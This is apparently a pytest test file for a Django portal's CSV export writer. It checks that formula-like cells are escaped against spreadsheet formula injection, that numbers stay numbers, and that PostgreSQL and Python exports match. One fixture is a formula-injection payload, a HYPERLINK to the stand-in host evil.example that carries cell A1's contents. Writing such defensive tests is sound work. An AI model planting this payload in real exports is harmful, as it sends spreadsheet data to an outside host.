"""CSV exports: one writer (portal/csv.py), formula cells escaped, numbers kept as numbers, streamed."""
import csv as stdlib_csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.http import StreamingHttpResponse

from portal import csv
from tests.factories import ChargeFactory, ChargePointFactory, SiteFactory, WalletTransactionFactory

ROOT = Path(__file__).resolve().parents[2]
ATTACK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize("value,written", [
    (ATTACK, "'" + ATTACK), ("+45 20 00 00 01", "'+45 20 00 00 01"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("plain", "plain"), ("a=b", "a=b"), ("", ""), (None, ""),
    (Decimal("-12.50"), Decimal("-12.50")), (-3, -3), (True, "True"),
])
def test_cells(value, written):
    assert csv.cell(value) == written


@pytest.mark.parametrize("value", [
    " =1+1", "  +1", "\u00a0=HYPERLINK(\"x\")", "\u3000@SUM(A1)",  # whitespace a spreadsheet may trim on import
    "\uff1d1+1", "\ufe661+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)",  # fullwidth / small forms (NFKC: = + - @)
    " \uff1d1+1",
])
def test_cells_that_become_formulas_after_trimming_or_width_folding_are_escaped(value):
    assert csv.cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Harbour =1", "\uff21\uff22", " Harbour", "\u00e9=1", "\u200d=1"])
def test_other_text_is_kept(value):
    assert csv.cell(value) == value


def _rows(response):
    assert isinstance(response, StreamingHttpResponse)  # streamed, never built in memory
    body = b"".join(response.streaming_content).decode()
    assert body.startswith("\ufeff")
    return list(stdlib_csv.reader(io.StringIO(body.lstrip("\ufeff"))))


@pytest.mark.django_db
def test_charges_export_escapes_formula_cells_and_keeps_negative_amounts(admin_client, operator):
    site = SiteFactory(operator=operator, name="@SUM(1+1)")
    point = ChargePointFactory(operator=operator, site=site, name="+Harbour", evse_id="DK*TST*E1")
    ChargeFactory(operator=operator, charge_point=point, external_id=ATTACK, price=Decimal("-100.00"),
                  vat_amount=Decimal("-20.00"), consumed_kwh=Decimal("-20.500"), failure_reason="-1+1")
    header, row = _rows(admin_client.get(f"/o/{operator.slug}/charges/?format=csv"))
    values = dict(zip(header, row, strict=True))
    assert values["external_id"] == "'" + ATTACK
    assert (values["site"], values["charge_point"], values["failure_reason"]) == ("'@SUM(1+1)", "'+Harbour", "'-1+1")
    assert (values["price"], values["vat_amount"], values["consumed_kwh"]) == ("-100.00", "-20.00", "-20.500")


@pytest.mark.django_db
def test_wallet_export_escapes_formula_cells_and_keeps_negative_amounts(admin_client, operator):
    WalletTransactionFactory(operator=operator, amount=Decimal("-4.50"), note="=1+2", reference="@ref")
    header, row = _rows(admin_client.get(f"/o/{operator.slug}/wallet/?format=csv"))
    values = dict(zip(header, row, strict=True))
    assert (values["note"], values["reference"]) == ("'=1+2", "'@ref")
    assert (values["amount"], values["balance_after"]) == ("-4.50", "-4.50")


def test_every_export_uses_the_one_writer():
    """No module writes CSV by itself: a new export goes through portal/csv.py and is escaped."""
    offenders = []
    apps = [d for d in ROOT.iterdir() if (d / "__init__.py").exists() and d.name != "tests"]
    for path in (p for app in apps for p in app.rglob("*.py")):
        if path == ROOT / "portal" / "csv.py":
            continue
        if re.search(r"csv\.(writer|DictWriter)\(|text/csv", path.read_text()):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def test_the_whitespace_list_is_what_lstrip_strips():
    assert csv.WHITESPACE == "".join(chr(c) for c in range(0x110000) if chr(c).isspace())


needs_pg = pytest.mark.skipif(not __import__("os").environ.get("DATABASE_URL", "").startswith("postgres"),
                              reason="needs PostgreSQL")


@needs_pg
@pytest.mark.django_db
def test_the_sql_escaping_is_cell_for_every_unicode_character():
    """cell_sql() (what PostgreSQL's COPY writes) against cell(), for every character as the first of
    a text and after leading whitespace (an ideographic space), and a few whole texts."""
    import unicodedata

    from django.db import connection

    texts = []
    for c in range(1, 0x110000):
        if 0xD800 <= c <= 0xDFFF:
            continue
        ch = chr(c)
        texts.append(ch + "1")
        if c < 0x80 or ch.isspace() or unicodedata.normalize("NFKC", ch) != ch:  # where leading space matters
            texts.append("\u3000" + ch)
    texts += [ATTACK, "", " ", "  \t", "a=b", "Harbour", "\u00a0=HYPERLINK(\"x\")", "-5", "'quoted", 'say "hi"']
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT t, {csv.cell_sql('t')} FROM unnest(%s::text[]) AS t", [texts])
        rows = cursor.fetchall()
    assert len(rows) == len(texts)
    wrong = [(t, got) for t, got in rows if got != (csv.cell(t) or None)]
    assert wrong == []


@needs_pg
@pytest.mark.django_db
def test_postgresql_copy_writes_the_rows_python_writes(operator):
    """The export PostgreSQL writes (COPY) reads back as the same rows as the one written in Python."""
    from datetime import timedelta

    from django.utils import timezone

    from charging import exports, selectors

    site = SiteFactory(operator=operator, name='Say "hi", =1')
    point = ChargePointFactory(operator=operator, site=site, name="\uff1dfold", evse_id="DK*TST*E9")
    lonely = ChargePointFactory(operator=operator, site=None, name="No site")
    at = timezone.now().replace(microsecond=123456) - timedelta(days=1)
    texts = [ATTACK, "line\nbreak", "cr\rhere", " =lead", "\u3000@x", "", "plain", "tab\tin", "-1+1"]
    for i, text in enumerate(texts):
        ChargeFactory(operator=operator, charge_point=point if i % 2 else lonely, external_id=f"X{i}{text[:10]}",
                      failure_reason=text, started_at=at - timedelta(minutes=i), price=Decimal(f"-{i}.5"),
                      consumed_kwh=Decimal("12.5"), stopped_at=None if i == 3 else at)
    qs = selectors.charges(operator=operator, filters={})
    copied, n = exports.charges_to_file(qs)
    in_python, m = csv.to_file(exports.CHARGE_HEADER, exports.charge_rows(qs), text_columns=exports.CHARGE_TEXT_COLUMNS)

    def parse(binary):
        text = binary.read().decode()
        assert text.startswith("\ufeff")
        return list(stdlib_csv.reader(io.StringIO(text[1:], newline="")))

    a, b = parse(copied), parse(in_python)
    assert n == m == len(texts) and len(a) == len(texts) + 1
    assert a == b
    assert a[1][8].endswith("+00:00") and "." not in a[1][8] and a[1][10] == "12.500"
